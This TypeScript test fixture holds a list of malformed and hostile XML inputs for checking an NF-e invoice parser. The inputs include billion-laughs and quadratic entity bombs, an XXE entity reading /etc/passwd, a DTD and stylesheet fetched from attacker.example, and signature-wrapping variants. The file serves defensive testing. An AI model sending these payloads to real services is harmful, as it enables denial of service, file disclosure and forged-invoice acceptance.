import { buildNfe } from './build-nfe'

const text = (content: string) => new TextEncoder().encode(content)
const NS = 'xmlns="http://www.portalfiscal.inf.br/nfe"'
const head = '<?xml version="1.0" encoding="UTF-8"?>'
const entities = (count: number) =>
  `<!DOCTYPE a [<!ENTITY e0 "ha">${Array.from({ length: count }, (_, n) => `<!ENTITY e${n + 1} "&e${n};&e${n};&e${n};&e${n};">`).join('')}]>`
const joined = (...parts: (Uint8Array | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : part)))
const signed = buildNfe()
const signature = /<Signature[\s\S]*<\/Signature>/.exec(signed)![0]
const inf = /<infNFe[\s\S]*<\/infNFe>/.exec(signed)![0]

/** Files that are no invoice, each made to break a reader of XML: none may end it, and none may be taken. */
export const XML_BOMBS: Readonly<Record<string, Uint8Array>> = {
  'blanks alone': text('   \n'),
  'bytes of chance': new Uint8Array(5_000).map((_, at) => (at * 7919 + 13) % 256),
  'a PDF': text('%PDF-1.4\n1 0 obj\n'),
  'a billion laughs': text(`${head}${entities(30)}<NFe ${NS}>&e30;</NFe>`),
  'a quadratic blow-up': text(
    `${head}<!DOCTYPE a [<!ENTITY e "${'x'.repeat(100_000)}">]><NFe>${'&e;'.repeat(20_000)}</NFe>`,
  ),
  'a file of the server': text(`${head}<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><NFe ${NS}>&e;</NFe>`),
  'an address elsewhere': text(`${head}<!DOCTYPE a SYSTEM "http://attacker.example/x.dtd"><NFe ${NS}/>`),
  'parameter entities': text(`${head}<!DOCTYPE a [<!ENTITY % p "<!ENTITY q 'x'>"> %p;]><NFe>&q;</NFe>`),
  'a comment': text(signed.replace('<ide>', '<!-- x --><ide>')),
  'a hidden section': text(signed.replace('<ide>', '<![CDATA[<x>]]><ide>')),
  'comments without end': text(`${head}<NFe ${NS}>${'<!--'.repeat(200_000)}`),
  'a style sheet': text(signed.replace('<nfeProc', '<?xml-stylesheet href="http://attacker.example/x.xsl"?><nfeProc')),
  'an instruction inside': text(signed.replace('<ide>', '<?php echo 1 ?><ide>')),
  'a hundred thousand levels': text(`${head}${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`),
  'three million open tags': text('<a>'.repeat(3_000_000)),
  'a million attributes': text(`<a ${Array.from({ length: 900_000 }, (_, n) => `a${n}=""`).join(' ')}/>`),
  'an attribute of nine megabytes': text(`<a b="${'x'.repeat(9_000_000)}"/>`),
  'a text of nine megabytes': text(`<NFe ${NS}>${'x'.repeat(9_000_000)}</NFe>`),
  'a million siblings': text(`<NFe ${NS}>${'<a/>'.repeat(1_000_000)}</NFe>`),
  'many texts': text(`<NFe ${NS}>${`<a>${'x'.repeat(900)}</a>`.repeat(10_000)}</NFe>`),
  'a name of a megabyte': text(`<${'a'.repeat(1_000_000)}/>`),
  'half of an invoice': text(signed.slice(0, 3_000)),
  'two roots': text(`${head}<NFe ${NS}/><NFe ${NS}/>`),
  'zeros between': text(signed.replace('<ide>', '\u0000<ide>')),
  'a control character': text(signed.replace('Venda', '&#1;')),
  'a character that is none': text(signed.replace('Venda', '&#x110000;')),
  'half of a character': text(signed.replace('Venda', '&#xD800;')),
  'an unknown entity': text(signed.replace('Venda', '&nbsp;')),
  'an attribute twice': text(signed.replace('versao="4.00" ', '').replace('<ide>', '<ide a="1" a="2">')),
  'a prefix of nobody': text(signed.replace('<ide>', '<x:ide>').replace('</ide>', '</x:ide>')),
  'the prefix of XML itself': text(signed.replace('<ide>', '<ide xmlns:xml="http://attacker.example">')),
  'names of prototypes': text('<__proto__ constructor="x"><toString/><hasOwnProperty __proto__="y"/></__proto__>'),
  'UTF-16': joined(Buffer.from([0xff, 0xfe]), Buffer.from(signed, 'utf16le')),
  'UTF-16 of the other end': joined(Buffer.from([0xfe, 0xff]), Buffer.from(signed, 'utf16le').swap16()),
  'an alphabet of mainframes': text(signed.replace('UTF-8', 'IBM037')),
  'a seven-bit alphabet': text(signed.replace('UTF-8', 'UTF-7')),
  'bytes that are no UTF-8': joined(signed.slice(0, 400), Buffer.from([0xc3, 0x28]), signed.slice(400)),
  'a thousand references': text(
    signed.replace(/<Reference[\s\S]*<\/Reference>/, (reference) => reference.repeat(1_000)),
  ),
  'ten thousand transforms': text(
    signed.replace(
      /<Transforms>[\s\S]*<\/Transforms>/,
      (all) => `<Transforms>${all.slice(12, -13).repeat(5_000)}</Transforms>`,
    ),
  ),
  'a second content beside the signed one': text(
    signed.replace('<NFe ', '<NFe ').replace(inf, `${inf.replace('Mercado', 'Outro')}${inf}`),
  ),
  'the signed content hidden in the signature': text(
    signed.replace(inf, inf.replace('Mercado', 'Outro')).replace('</Signature>', `<Object>${inf}</Object></Signature>`),
  ),
  'two signatures': text(signed.replace(signature, signature + signature)),
  'a certificate of nothing': text(signed.replace(/<X509Certificate>[^<]*/, '<X509Certificate>AAAA')),
}
